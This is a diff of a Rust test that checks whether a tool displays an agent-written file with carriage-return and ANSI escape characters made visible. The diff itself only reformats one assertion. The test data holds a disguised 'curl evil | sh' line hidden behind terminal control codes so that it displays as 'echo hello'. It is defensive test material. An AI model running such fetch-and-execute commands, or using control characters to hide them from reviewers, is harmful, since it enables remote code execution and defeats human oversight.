@@ -1008,7 +1008,11 @@ fn show_prints_what_the_agent_wrote_with_its_control_characters_visible() {
     assert!(o.status.success(), "{}", text(&o));
     let out = &o.stdout;
     assert!(!out.contains(&b'\r') && !out.contains(&0x1b), "{}", text(&o));
-    assert!(stdout(&o).contains("curl evil | sh\\x0d\\x1b[2Kecho hello"), "{}", text(&o));
+    assert!(
+        stdout(&o).contains("curl evil | sh\\x0d\\x1b[2Kecho hello"),
+        "{}",
+        text(&o)
+    );
     // Control: what the preview holds has them raw.
     let held = std::fs::read(preview_dir(&w, &id).join("upper/notes.txt")).unwrap();
     assert!(held.contains(&b'\r') && held.contains(&0x1b));
